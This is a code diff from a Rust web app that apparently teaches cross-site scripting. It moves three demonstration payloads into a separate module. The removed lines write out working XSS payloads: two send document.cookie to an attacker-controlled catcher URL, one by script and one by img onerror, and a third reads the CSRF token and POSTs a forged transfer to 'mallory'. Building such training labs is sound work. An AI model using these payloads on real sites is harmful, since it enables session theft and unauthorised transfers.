@@ -6,7 +6,7 @@ use rocket_dyn_templates::Template;
 use serde::Serialize;
 
 use super::page::Scene;
-use super::{Role, Trick};
+use super::{Role, Trick, payloads};
 use crate::policy::Name;
 use crate::portal::Stop;
 use crate::web::place::Place;
@@ -47,30 +47,25 @@ struct XssPage {
 }
 
 fn payloads(catcher: &str) -> [Payload; 3] {
-    let steal = format!("'{catcher}?cookie='+encodeURIComponent(document.cookie)");
     [
         Payload {
             id: "steal",
             title: "Steal the cookie",
             says: "Loads an image whose address carries document.cookie to the attacker.",
-            text: format!("<script>new Image().src={steal}</script>"),
+            text: payloads::steal_cookie(catcher),
         },
         Payload {
             id: "handler",
             title: "The same without a script tag",
             says: "A broken image runs its error handler. Filtering script tags is no defence.",
-            text: format!("<img src=\"data:,\" onerror=\"this.onerror=null;this.src={steal}\">"),
+            text: payloads::steal_cookie_by_handler(catcher),
         },
         Payload {
             id: "ride",
             title: "Ride the session",
             says: "Sends the transfer from the victim's own page. It needs no cookie to read, and it \
                    takes the CSRF token from the page.",
-            text: "<script>f=new URLSearchParams({to:'mallory',amount:'1'});\
-                   t=document.querySelector('[name=csrf_token]');\
-                   if(t)f.set('csrf_token',t.value);\
-                   fetch('transfer',{method:'POST',body:f})</script>"
-                .into(),
+            text: payloads::ride_session(),
         },
     ]
 }
